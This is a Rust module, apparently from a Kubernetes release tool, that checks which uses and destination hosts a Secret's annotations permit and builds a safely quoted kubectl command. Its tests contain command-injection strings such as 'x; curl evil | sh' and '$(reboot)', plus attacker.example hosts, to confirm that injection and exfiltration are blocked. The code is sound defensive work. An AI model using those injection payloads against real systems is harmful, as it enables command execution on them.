//! What a Secret says that it may be used for.
//!
//! A Secret names, in two annotations, the kinds of use and the hosts that its values may be sent to. Whoever edits an Environment cannot
//! set them, so that an Environment alone never makes a Secret leave the cluster. Names of keys are no use: they are read without it.

use std::collections::{BTreeMap, BTreeSet};

/// Annotation with the kinds of use: names of channels, or [`GITHUB_CHECKS`]; several with commas between them.
pub(crate) const USE: &str = "release-cockpit.dev/use";
/// Annotation with the hosts, each with or without a port; several with commas between them. There are no wildcards.
pub(crate) const HOST: &str = "release-cockpit.dev/host";
/// Type of the condition of an Environment that tells whether its Secrets permit how it uses them.
pub(crate) const CONDITION: &str = "SecretsPermitUse";
/// The kind of use of a GitHub token in a `githubChecks` gate.
pub(crate) const GITHUB_CHECKS: &str = "github-checks";

/// One use of a Secret.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct SecretUse {
    /// Name of the Secret.
    pub secret: String,
    /// Kind of use.
    pub kind: String,
    /// Host that the value is sent to, with a port where it is not the scheme's own; absent where the value itself is the address.
    pub host: Option<String>,
}

/// A Secret does not say that it may be used like that.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("Secret {} is not marked for {}{}: {}", .wanted.secret, .wanted.kind, self.place(), self.command())]
pub struct Unmarked {
    namespace: String,
    // in a box: this is an error's payload, and a Result is as large as its error
    wanted: Box<SecretUse>,
    kinds: BTreeSet<String>,
    hosts: BTreeSet<String>,
}

impl Unmarked {
    /// The command with which somebody who may edit the Secret allows the use. What the Secret says already is kept.
    #[must_use]
    pub fn command(&self) -> String {
        let joined = |mut words: BTreeSet<String>, new: &str| {
            words.insert(new.to_owned());
            words.into_iter().collect::<Vec<_>>().join(",")
        };
        let kinds = joined(self.kinds.clone(), &self.wanted.kind);
        let host = match (self.wanted.host.as_deref(), self.wanted.kind.as_str()) {
            (Some(host), _) => host,
            (None, "slack") => "hooks.slack.com",
            (None, _) => "HOST-OF-THE-URL",
        };
        let hosts = joined(self.hosts.clone(), host);
        let secret = quoted(&self.wanted.secret);
        format!(
            "kubectl -n {} annotate --overwrite secret {secret} {} {}",
            self.namespace,
            quoted(&format!("{USE}={kinds}")),
            quoted(&format!("{HOST}={hosts}"))
        )
    }

    fn place(&self) -> String {
        self.wanted.host.as_ref().map_or_else(String::new, |host| format!(" at {host}"))
    }
}

/// As one word of a shell: an Environment names the Secret and the host, and people copy the command.
fn quoted(word: &str) -> String {
    let is_plain = word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=,:@".contains(c));
    if is_plain && !word.is_empty() { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

/// Checks whether the annotations of a Secret permit a use. Without a host only the kind is checked, and that some host is named.
pub(crate) fn permit(
    namespace: &str,
    annotations: &BTreeMap<String, String>,
    wanted: &SecretUse,
) -> Result<(), Unmarked> {
    let words = |key: &str| -> BTreeSet<String> {
        let text = annotations.get(key).map(String::as_str).unwrap_or_default();
        text.split(',').map(|word| normal(word.trim())).filter(|word| !word.is_empty()).collect()
    };
    let (kinds, hosts) = (words(USE), words(HOST));
    let is_kind = kinds.contains(&wanted.kind);
    let is_host = match &wanted.host {
        Some(host) => {
            let host = normal(host);
            hosts.contains(&host) || hosts.contains(without_port(&host))
        }
        None => !hosts.is_empty(),
    };
    if is_kind && is_host {
        return Ok(());
    }
    Err(Unmarked { namespace: namespace.to_owned(), wanted: Box::new(wanted.clone()), kinds, hosts })
}

/// Whether a request to that URL may carry a secret: it is encrypted, or does not leave the machine.
#[must_use]
pub(crate) fn is_protected(url: &url::Url) -> bool {
    let stays = match url.host() {
        Some(url::Host::Domain(name)) => name.trim_end_matches('.') == "localhost",
        Some(url::Host::Ipv4(ip)) => ip.is_loopback(),
        Some(url::Host::Ipv6(ip)) => ip.is_loopback(),
        None => false,
    };
    url.scheme() == "https" || (url.scheme() == "http" && stays)
}

/// The host of a URL as annotations name it: with the port where it is not the scheme's own.
#[must_use]
pub(crate) fn host_of(url: &url::Url) -> Option<String> {
    let host = normal(url.host_str()?);
    Some(match url.port() {
        Some(port) => format!("{host}:{port}"),
        None => host,
    })
}

fn normal(host: &str) -> String {
    let host = host.to_ascii_lowercase();
    match host.rsplit_once(':') {
        Some((name, port)) if !name.ends_with(':') && port.bytes().all(|byte| byte.is_ascii_digit()) => {
            format!("{}:{port}", name.trim_end_matches('.'))
        }
        _ => host.trim_end_matches('.').to_owned(),
    }
}

fn without_port(host: &str) -> &str {
    match host.rsplit_once(':') {
        // an IPv6 address without a port ends in a bracket
        Some((name, port)) if !port.ends_with(']') => name,
        _ => host,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wanted(kind: &str, host: Option<&str>) -> SecretUse {
        SecretUse { secret: "app".into(), kind: kind.into(), host: host.map(str::to_owned) }
    }

    fn marks(kinds: &str, hosts: &str) -> BTreeMap<String, String> {
        [(USE, kinds), (HOST, hosts)].map(|(key, value)| (key.to_owned(), value.to_owned())).into()
    }

    #[test]
    fn only_what_a_secret_says_is_permitted() {
        for (kinds, hosts, kind, host, expected) in [
            ("pagerduty", "events.pagerduty.com", "pagerduty", Some("events.pagerduty.com"), true),
            (
                "slack, pagerduty",
                "hooks.slack.com , events.pagerduty.com",
                "pagerduty",
                Some("events.pagerduty.com"),
                true,
            ),
            ("pagerduty", "events.pagerduty.com", "pagerduty", Some("Events.PagerDuty.com."), true),
            ("pagerduty", "Events.PagerDuty.com.", "pagerduty", Some("events.pagerduty.com"), true),
            ("email", "mail.example.com", "email", Some("mail.example.com:2525"), true),
            ("email", "mail.example.com:2525", "email", Some("mail.example.com:2525"), true),
            ("email", "mail.example.com:2525", "email", Some("mail.example.com"), false),
            ("email", "mail.example.com:2525", "email", Some("mail.example.com:25"), false),
            ("webhook", "[::1]:80", "webhook", Some("[::1]:80"), true),
            ("webhook", "[::1]", "webhook", Some("[::1]:80"), true),
            ("webhook", "[::1]:8", "webhook", Some("[::1]:80"), false),
            ("slack", "hooks.slack.com", "slack", None, true),
            ("slack", "", "slack", None, false),
            ("", "hooks.slack.com", "slack", None, false),
            ("pagerduty", "events.pagerduty.com", "pagerduty", Some("attacker.example"), false),
            (
                "pagerduty",
                "events.pagerduty.com",
                "pagerduty",
                Some("events.pagerduty.com.attacker.example"),
                false,
            ),
            ("pagerduty", "events.pagerduty.com", "webhook", Some("events.pagerduty.com"), false),
            ("pagerduty", "*.pagerduty.com", "pagerduty", Some("events.pagerduty.com"), false),
            ("*", "*", "pagerduty", Some("events.pagerduty.com"), false),
            ("", "", "pagerduty", Some("events.pagerduty.com"), false),
        ] {
            let found = permit("prod", &marks(kinds, hosts), &wanted(kind, host));
            assert_eq!(found.is_ok(), expected, "{kinds} {hosts} {kind} {host:?}");
        }
        assert!(permit("prod", &BTreeMap::new(), &wanted("slack", None)).is_err());
    }

    #[test]
    fn a_secret_goes_nowhere_without_encryption() {
        for (url, expected) in [
            ("https://events.pagerduty.com/", true),
            ("http://events.pagerduty.com/", false),
            ("http://10.0.0.1/", false),
            ("http://127.0.0.1:8080/", true),
            ("http://localhost./", true),
            ("http://localhost.attacker.example/", false),
            ("http://[::1]/", true),
            ("mqtt://127.0.0.1/", false),
        ] {
            assert_eq!(is_protected(&url.parse().unwrap()), expected, "{url}");
        }
    }

    #[test]
    fn the_command_adds_to_what_the_secret_says() {
        let told = permit(
            "prod",
            &marks("slack", "hooks.slack.com"),
            &wanted("pagerduty", Some("events.pagerduty.com")),
        );
        let told = told.unwrap_err();
        assert_eq!(
            told.command(),
            "kubectl -n prod annotate --overwrite secret app release-cockpit.dev/use=pagerduty,slack \
             release-cockpit.dev/host=events.pagerduty.com,hooks.slack.com"
        );
        assert!(
            told.to_string()
                .starts_with("Secret app is not marked for pagerduty at events.pagerduty.com: kubectl")
        );
    }

    #[test]
    fn nothing_that_an_environment_names_is_run_by_a_shell() {
        let wanted = SecretUse {
            secret: "x; curl evil | sh".into(),
            kind: "email".into(),
            host: Some("a;$(reboot)'`".into()),
        };
        let command = permit("prod", &BTreeMap::new(), &wanted).unwrap_err().command();
        assert_eq!(
            command,
            r"kubectl -n prod annotate --overwrite secret 'x; curl evil | sh' release-cockpit.dev/use=email 'release-cockpit.dev/host=a;$(reboot)'\''`'"
        );
    }

    #[test]
    fn a_host_has_the_port_that_is_not_the_schemes_own() {
        for (url, expected) in [
            ("https://Events.PagerDuty.com:443/v2", "events.pagerduty.com"),
            ("https://x.example.:8443/", "x.example:8443"),
            ("http://127.0.0.1:9/", "127.0.0.1:9"),
            ("smtp://mail.example.com:2525", "mail.example.com:2525"),
            ("https://[::1]/", "[::1]"),
        ] {
            assert_eq!(host_of(&url.parse().unwrap()).as_deref(), Some(expected), "{url}");
        }
    }
}
